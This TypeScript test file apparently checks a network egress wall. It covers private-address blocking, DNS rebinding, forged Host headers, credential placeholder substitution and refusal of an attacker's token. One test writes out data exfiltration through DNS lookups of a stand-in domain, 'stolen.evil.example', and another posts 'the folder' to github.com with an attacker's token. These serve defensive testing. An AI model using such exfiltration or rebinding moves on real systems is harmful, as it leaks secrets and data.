import { once } from "node:events";
import { createServer, request, type IncomingMessage } from "node:http";
import type { AddressInfo, Server } from "node:net";
import { expect, test } from "vitest";
import { openEgressWorld } from "./testing/egress-world.ts";
import { openWithSecret, placeHost, token } from "./testing/placed-host.ts";

/** A request of a program that no wall is around: to the server itself, with what the program says. */
async function sendDirectly(server: Server, headers: Readonly<Record<string, string>> = {}): Promise<string> {
  const { port } = server.address() as AddressInfo;
  const asked = request({ host: "127.0.0.1", port, agent: false, headers }).end();
  const [answer] = (await once(asked, "response")) as [IncomingMessage];
  return Buffer.concat(await answer.toArray()).toString();
}

/** A plain host that records the `Host` and `Authorization` of its requests. */
function recorder() {
  const seen: string[] = [];
  const server = createServer(({ headers }, response) => {
    seen.push(`${headers.host} ${headers.authorization ?? "nothing"}`);
    response.end("the inside of the network");
  });
  return { server, seen };
}

test("53: a name that leads to a private address", async () => {
  await using world = await openEgressWorld();
  const { server } = recorder();
  await world.place("10.0.0.5", 80, server);
  world.answerWith("inside.example.com", ["10.0.0.5"], ["10.0.0.5"]);
  expect(await sendDirectly(server)).toContain("inside");
  expect(await world.send("http://inside.example.com/")).toMatchObject({ status: 403 });
  expect((await world.connect("inside.example.com:443")).status).toBe(403);
  expect(world.dialled).toEqual([]);
});

test("54: a name that leads elsewhere after it was checked", async () => {
  await using world = await openEgressWorld();
  const { server } = recorder();
  await world.place("changing.example.com", 80, server);
  world.answerWith("changing.example.com", ["1.0.0.1"], ["10.0.0.5"], ["10.0.0.5"]);
  // Who checks a name and then connects to the name asks twice: the second answer is inside.
  expect((await world.send("http://changing.example.com/")).status).toBe(200);
  expect(world.dialled).toEqual(["1.0.0.1:80"]);
  expect(world.resolved).toEqual(["changing.example.com"]);
});

test("55: data in a name that is looked up", async () => {
  await using open = await openEgressWorld();
  await open.send("http://stolen.evil.example/");
  expect(open.resolved).toEqual(["stolen.evil.example"]);
  await using world = await openEgressWorld({ policy: { allow: ["good.example"] } });
  for (const target of ["stolen.evil.example", "stolen.good.example.evil.example", "STOLEN.good.example."]) {
    await world.send(`http://${target}/`);
    await world.connect(`${target}:443`);
  }
  expect(world.resolved).toEqual([]);
});

test("56: a forged Host", async () => {
  await using world = await openEgressWorld({ policy: { allow: ["front.example.com"] } });
  const { server, seen } = recorder();
  await world.place("front.example.com", 80, server);
  await sendDirectly(server, { host: "hidden.example.com" });
  await world.send("http://front.example.com/", { headers: { host: "hidden.example.com" } });
  expect(seen).toEqual(["hidden.example.com nothing", "front.example.com nothing"]);
});

test("57: a credential to another host", async () => {
  await using world = await openWithSecret();
  const { server, seen } = recorder();
  await world.place("other.example.com", 80, server);
  await world.place("api.example.com", 80, server);
  await sendDirectly(server, { authorization: token.value, host: "other.example.com" });
  const headers = { authorization: token.placeholder };
  for (const host of ["other.example.com", "api.example.com"])
    await world.send(`http://${host}/`, { headers });
  expect(seen).toEqual([
    `other.example.com ${token.value}`,
    `other.example.com ${token.placeholder}`,
    `api.example.com ${token.placeholder}`,
  ]);
});

test("58: a token of one's own to a host of the preset", async () => {
  await using world = await openEgressWorld({ policy: "registries" });
  const { server, seen } = recorder();
  await world.place("github.com", 80, server);
  const headers = { authorization: "Bearer of the attacker" };
  await sendDirectly(server, { ...headers, host: "github.com" });
  expect(await world.send("http://github.com/", { headers })).toMatchObject({ status: 403 });
  expect(await world.send("http://github.com/", { method: "POST", body: "the folder" })).toMatchObject({
    status: 403,
  });
  expect(seen).toEqual(["github.com Bearer of the attacker"]);
});

test("60: a host that repeats the credential", async () => {
  await using world = await openWithSecret();
  let value = "";
  await placeHost(world, "api.example.com", ({ headers }, response) => {
    value = String(headers["x-a"]);
    response.end(JSON.stringify({ sent: headers["x-a"] }));
  });
  const answer = await world.get("https://api.example.com/", { headers: { "X-A": token.placeholder } });
  // The host has the value, as a program without a wall would have it again.
  expect(value).toBe(token.value);
  expect(answer.body).toBe(JSON.stringify({ sent: token.placeholder }));
});
